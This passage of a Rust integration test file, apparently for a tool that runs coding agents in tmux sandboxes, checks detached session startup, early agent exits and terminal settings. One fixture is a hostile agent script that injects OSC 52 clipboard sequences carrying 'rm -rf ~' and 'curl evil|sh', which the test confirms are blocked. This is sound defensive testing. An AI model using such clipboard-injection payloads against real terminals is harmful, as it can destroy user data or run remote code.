        .json();
    assert_eq!(doc["name"], "plain", "{doc}");
    assert_eq!(session_of(&env, "plain"), "none");
    // -d and --json ask for two different things.
    let before = env.snapshot();
    env.sandbox(&["up", "-d", "--json", "both"]).code(2);
    assert_eq!(env.snapshot(), before);
    env.sandbox(&["down", "-f", "shell"]).ok();
    assert!(server.sessions().is_empty(), "{:?}", server.sessions());
    assert!(!env.box_path("shell").exists());
}

#[test]
fn up_detached_without_tmux_is_refused_before_anything_is_made() {
    let mut env = TestEnv::new();
    env.extra_env
        .push(("TREEBOX_TMUX".into(), "/nonexistent/tmux".into()));
    let before = env.snapshot();
    let r = env.sandbox(&["up", "-d", "nope"]);
    r.code(1);
    assert!(r.stderr.contains("tmux is not installed"), "{r:?}");
    assert!(r.stderr.contains("git sandbox up nope --json"), "{r:?}");
    assert_eq!(env.snapshot(), before, "a refused up -d wrote something");
}

/// A hostile agent: once `$HOME/go-<box>` exists it writes, to its terminal, an OSC 52
/// "set the clipboard" sequence and the same wrapped in tmux's passthrough, then a
/// line that shows it has written them, and waits for `$HOME/stop-<box>`.
const CLIPBOARD_AGENT: &str = r#"#!/bin/sh
echo "$$" >> "$HOME/agent.pids"
while [ ! -f "$HOME/go-$TREEBOX_BOX" ]; do sleep 0.05; done
printf '\033]52;c;%s\a' "$(printf 'rm -rf ~' | base64)"
printf '\033Ptmux;\033\033]52;c;%s\a\033\\' "$(printf 'curl evil|sh' | base64)"
printf 'WRITTEN''-BOTH\n'
while [ ! -f "$HOME/stop-$TREEBOX_BOX" ]; do sleep 0.05; done
"#;

#[test]
fn a_box_cannot_set_the_clipboard_of_the_terminal_attached_to_it() {
    let env = TestEnv::new();
    write_exec(&env.bin.join("claude"), &claude_like(CLIPBOARD_AGENT));
    // The user's own tmux.conf lets programs in panes set the clipboard and pass
    // sequences through to the terminal: treebox's server loads it, and overrides both.
    std::fs::write(
        env.home.join(".tmux.conf"),
        "set -g set-clipboard on\nset -g allow-passthrough on\n",
    )
    .unwrap();
    let server = Server::of(&env);
    env.treebox(&["create", "-d", "clip"]).ok();
    started(&env.home, "clip", 1);
    // A real client, attached on a pseudo-terminal whose every byte is kept.
    let mut client = on_tty_running(&env, TREEBOX, "enter clip", &[]);
    wait_for("the terminal to attach", || server.clients() == 1);
    std::fs::write(env.home.join("go-clip"), "").unwrap();
    wait_for("the agent's output to reach the terminal", || {
        shown(&env).contains("WRITTEN-BOTH")
    });
    let raw = shown(&env);
    // Neither sequence, nor either payload, reached the terminal.
    for leak in ["]52;", "cm0gLXJmIH4=", "Y3VybCBldmlsfHNo", "Ptmux;"] {
        assert!(
            !raw.contains(leak),
            "{leak:?} reached the terminal: {raw:?}"
        );
    }
    // The server's options say so, and no paste buffer holds the payload either.
    let shows = |args: &[&str]| String::from_utf8_lossy(&server.tmux(args).stdout).into_owned();
    assert_eq!(
        shows(&["show-options", "-g", "set-clipboard"]).trim(),
        "set-clipboard off"
    );
    assert_eq!(
        shows(&["show-options", "-gw", "allow-passthrough"]).trim(),
        "allow-passthrough off"
    );
    assert_eq!(shows(&["list-buffers"]), "");
    std::fs::write(env.home.join("stop-clip"), "").unwrap();
    assert_eq!(client.wait().unwrap().code(), Some(0), "{}", shown(&env));
    assert_eq!(session_of(&env, "clip"), "none");
}

/// A fake claude that ends at once, as the real one does when it refuses to start
/// (a bad key, root): it says why and exits with `$FAKE_EXIT` (default 3), never
/// reporting its start.
const REFUSING_AGENT: &str = r#"#!/bin/sh
echo "Invalid API key - Please run /login"
printf 'and a second \033[31mred\033[0m line\n'
exit "${FAKE_EXIT:-3}"
"#;

fn box_row(env: &TestEnv, name: &str) -> serde_json::Value {
    let doc = env.treebox(&["list", "--json"]).ok().json();
    doc["boxes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["name"] == name)
        .unwrap_or_else(|| panic!("no box {name}: {doc:#}"))
        .clone()
}

/// SPEC §7a: an agent that ends before it is ready fails the detached start with its
/// exit code and its last lines; `list` then shows how it ended, and no status.
#[test]
fn an_agent_that_ends_before_it_is_ready_fails_the_detached_start() {
    let env = TestEnv::new();
    write_exec(&env.bin.join("claude"), REFUSING_AGENT);
    let server = Server::of(&env);
    let r = env.treebox(&["create", "-d", "refused"]);
    r.code(3);
    assert!(
        r.stderr
            .contains("the agent exited with code 3 before it was ready"),
        "{r:?}"
    );
    assert!(
        r.stderr.contains("  | Invalid API key - Please run /login"),
        "{r:?}"
    );
    // The box's output reaches the terminal as text, never as a control sequence.
    assert!(r.stderr.contains("  | and a second red line"), "{r:?}");
    assert!(!r.stderr.contains('\u{1b}'), "{r:?}");
    assert!(r.stderr.contains("git treebox enter refused"), "{r:?}");
    // The box stays (it was made); its agent is reported as ended.
    let row = box_row(&env, "refused");
    assert_eq!(row["session"], "none", "{row}");
    assert_eq!(row["exitCode"], 3, "{row}");
    assert!(row["status"].is_null(), "{row}");
    let table = env.treebox(&["list"]).ok().stdout.clone();
    assert!(table.contains("exited 3"), "{table}");
    assert!(server.sessions().is_empty(), "{:?}", server.sessions());
    // A report the agent made before it ended is not shown once its session has.
    let status = env.box_state("refused").join("status");
    std::fs::create_dir_all(&status).unwrap();
    std::fs::write(status.join("state"), "working\n").unwrap();
    std::thread::sleep(Duration::from_millis(20));
    // Ending with 0 before it was ready is a failure all the same.
    let o = env
        .command(TREEBOX, &env.repo)
        .args(["enter", "-d", "refused"])
        .env("FAKE_EXIT", "0")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{o:?}");
    let row = box_row(&env, "refused");
    assert_eq!(row["exitCode"], 0, "{row}");
    assert!(row["status"].is_null(), "{row}");
    env.treebox(&["teardown", "--force", "refused"]).ok();
}

/// A detached start returns once the agent is at its prompt (it reported its start),
/// in a session whose window is named after the box and drawn at the size of the
/// terminal that started it (`COLUMNS`/`LINES` without one), on a server that passes
/// Escape at once and reports focus (issue 29, point 8).
/// A stand-in Claude Code that draws its prompt as 2.1 does and never runs its
/// `SessionStart` hook: the screen alone says it is ready.
const PROMPT_ONLY_AGENT: &str = r#"#!/bin/sh
printf '\342\235\257 \n  \342\217\265\342\217\265 bypass permissions on (shift+tab to cycle)\n'
exec sleep 600
"#;

#[test]
fn a_detached_claude_is_ready_once_its_prompt_is_drawn() {
    let env = TestEnv::new();
    let _server = Server::of(&env);
    write_exec(&env.bin.join("claude"), PROMPT_ONLY_AGENT);
    let since = Instant::now();
    let r = env.treebox(&["create", "-d", "drawn"]);
    r.ok();
    // Not the 45 s wait for a report that never comes.
    assert!(since.elapsed() < Duration::from_secs(20), "{r:?}");
    assert!(!r.stderr.contains("not at its prompt"), "{r:?}");
    // Its start reported `idle` and an empty turn count before it ran; no `up` came.
    let row = box_row(&env, "drawn");
    assert_eq!(row["status"], "idle", "{row}");
    let status = env.box_state("drawn").join("status");
    assert_eq!(std::fs::read(status.join("turns")).unwrap(), b"");
    assert!(!status.join("up").exists());
    env.treebox(&["teardown", "--force", "drawn"]).ok();
}

#[test]
fn a_detached_session_is_ready_named_and_sized_for_its_box() {
    let env = env_with_agent();
    let server = Server::of(&env);
    let o = env
        .command(TREEBOX, &env.repo)
        .args(["create", "-d", "sized"])
        .env("COLUMNS", "150")
        .env("LINES", "40")
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    // Ready when `create -d` returned: the agent had reported its start.
    let row = box_row(&env, "sized");
    assert_eq!(row["status"], "idle", "{row}");
    assert!(row["exitCode"].is_null(), "{row}");
    let target = format!("={}:", server.sessions()[0]);
    let shown = |what: &str| {
        let o = server.tmux(&["display-message", "-p", "-t", &target, what]);
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    assert_eq!(shown("#{window_name}"), "sized");
    assert_eq!(shown("#{window_width}"), "150");
    let height: u32 = shown("#{window_height}").parse().unwrap();
    assert!((39..=40).contains(&height), "{height}");
    let option = |args: &[&str]| {
        let o = server.tmux(&[&["show-options", "-v"], args].concat());
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    assert_eq!(option(&["-s", "escape-time"]), "10");
    assert_eq!(option(&["-s", "focus-events"]), "on");
    assert_eq!(option(&["-w", "-t", &target, "automatic-rename"]), "off");
    assert_eq!(option(&["-w", "-t", &target, "allow-rename"]), "off");
    // The agent renames nothing: a title or name it sends leaves the window's name.
    assert!(!option(&["-t", &target, "status-right"]).contains("pane_title"));
    std::fs::write(env.home.join("stop-sized"), "").unwrap();
    wait_for("the session to end", || session_of(&env, "sized") == "none");
    assert_eq!(box_row(&env, "sized")["exitCode"], 0);
    let table = env.treebox(&["list"]).ok().stdout.clone();
    assert!(table.contains("exited 0"), "{table}");
    env.treebox(&["teardown", "--force", "sized"]).ok();
}

/// The agent's terminal is the pane's kind, but not one the image cannot draw: a
/// user's tmux.conf naming a terminal the image has no terminfo for (a home-made one,
/// or `tmux-256color` on an image without it) gives the agent `xterm-256color`.
#[test]
fn a_terminal_the_image_does_not_know_becomes_xterm_256color() {
    crate::container::each_engine(|b| {
        let env = &b.env;
        std::fs::write(
            env.home.join(".tmux.conf"),
            "set -g default-terminal treebox-no-such-term\n",
        )
        .unwrap();
        let server = Server::of(env);
        let path = container_agent_box(&b, "term");
        env.treebox(&["enter", "-d", "term"]).ok();
        wait_for("the agent to start", || path.join("agent.started").exists());
        // The pane's terminal is the user's choice...
        let pane_term = server.tmux(&["show-options", "-gv", "default-terminal"]);
        assert_eq!(
            String::from_utf8_lossy(&pane_term.stdout).trim(),
            "treebox-no-such-term"
        );
        // ...which the image has no terminfo for: the agent gets one it has.
        let term = std::fs::read_to_string(path.join("agent.term")).unwrap();
        assert_eq!(term.trim(), "xterm-256color");
        std::fs::write(path.join("stop"), "").unwrap();
        env.sandbox(&["down", "-f", "term"]).ok();
        assert!(server.sessions().is_empty(), "{:?}", server.sessions());
    });
}
